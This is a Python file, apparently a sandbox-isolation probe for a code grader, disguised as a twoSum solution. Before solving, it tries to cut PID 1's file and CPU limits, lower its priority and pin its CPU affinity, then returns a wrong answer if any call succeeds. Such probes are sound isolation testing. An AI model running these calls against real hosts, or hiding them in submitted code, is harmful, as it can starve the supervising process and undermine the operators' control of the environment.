# Tries to lower the runner's (PID 1) limits and priority; answers wrong if any call worked.
import os
import resource


def _try(f):
    try:
        f()
        return 1
    except OSError:
        return 0


class Solution:
    def twoSum(self, nums: List[int], target: int) -> List[int]:
        bad = _try(lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3)))
        bad += _try(lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)))
        bad += _try(lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
        bad += _try(lambda: os.setpriority(os.PRIO_USER, 0, 19))
        bad += _try(lambda: os.sched_setaffinity(1, {0}))
        if bad:
            return [-bad]
        seen = {}
        for i, v in enumerate(nums):
            if target - v in seen:
                return [seen[target - v], i]
            seen[v] = i
        return []
